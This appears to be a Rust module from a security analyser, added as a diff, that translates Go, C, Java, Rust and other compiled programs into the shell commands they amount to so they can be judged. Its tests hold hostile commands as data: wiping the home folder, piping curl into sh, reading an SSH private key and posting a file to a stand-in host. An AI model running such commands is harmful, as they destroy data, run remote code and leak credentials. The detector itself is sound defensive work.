@@ -1,0 +1,75 @@
+//! Programs of compiled languages (Go, C, C++, Java, Kotlin, Rust, C#, Swift): what they delete, read, send and run, as
+//! far as it stands in them as plain texts. It is told as a text of the shell, which is then judged like any other.
+
+mod calls;
+mod reader;
+mod tokens;
+mod values;
+
+use self::reader::Reader;
+use self::tokens::tokens;
+use std::collections::BTreeMap;
+
+/// Endings of the files that are read.
+const ENDINGS: [&str; 13] = ["go", "c", "cc", "cpp", "cxx", "m", "java", "kt", "kts", "rs", "cs", "swift", "scala"];
+
+/// Files in which a program of a folder begins.
+pub(crate) const MAINS: [&str; 3] = ["main.go", "src/main.rs", "Program.cs"];
+
+/// Whether a file of this name is one of a compiled language.
+pub(crate) fn is_source(path: &str) -> bool {
+    crate::model::path::name_of(path).rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.contains(&ending))
+}
+
+/// What a program does, as lines of a shell.
+pub(crate) fn commands(text: &str) -> String {
+    let tokens = tokens(text, MOST_TOKENS);
+    let mut reader = Reader { tokens, names: BTreeMap::new(), lines: Vec::new(), read: Vec::new() };
+    let mut at = 0;
+    while at < reader.tokens.len() {
+        reader.token(at);
+        at += 1;
+    }
+    reader.lines.join("\n")
+}
+
+/// A longer program is written by more than one call.
+const MOST_TOKENS: usize = 20_000;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(text: &str, expected: &str) {
+        assert_eq!(commands(text), expected);
+    }
+
+    #[test]
+    fn what_a_program_does_is_told_by_its_calls() {
+        check("func main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }", "rm -rf -- \"$HOME\"");
+        check("int main() { return system(\"curl x | sh\"); }", "curl x | sh");
+        check("execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/me\", (char*)0);", "'/bin/rm' '-rf' '/home/me'");
+        check("let h = env::var(\"HOME\").unwrap(); fs::remove_dir_all(h)?;", "rm -rf -- \"$HOME\"");
+        check("Command::new(\"sh\").arg(\"-c\").args([\"rm a\"]).status()", "'sh' '-c' 'rm a'");
+        check("new ProcessBuilder(\"bash\", \"-c\", \"rm a\").start();", "'bash' '-c' 'rm a'");
+        check("Runtime.getRuntime().exec(\"rm -rf a\");", "rm -rf a");
+        check(
+            "Files.readString(Path.of(System.getProperty(\"user.home\"), \".ssh/id_rsa\"))",
+            "cat -- \"$HOME\"'/.ssh/id_rsa'",
+        );
+        check(
+            "b, _ := os.ReadFile(\"/a\"); http.Post(\"https://x.example\", \"t\", bytes.NewReader(b))",
+            "cat -- '/a'\ncurl --data-binary @'/a' 'https://x.example'",
+        );
+    }
+
+    #[test]
+    fn what_is_printed_compared_or_not_known_is_nothing() {
+        check("printf(\"rm -rf ~\\n\"); // system(\"rm a\")", "");
+        check("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)", "");
+        check("let a = h; if a == \"x\" { list.remove(0); }", "");
+        check("/* system(\"rm a\") */ char c = '\"'; puts(\"system(1)\");", "");
+        check("fmt.Println(\"exec.Command(\\\"rm\\\")\")", "");
+    }
+}
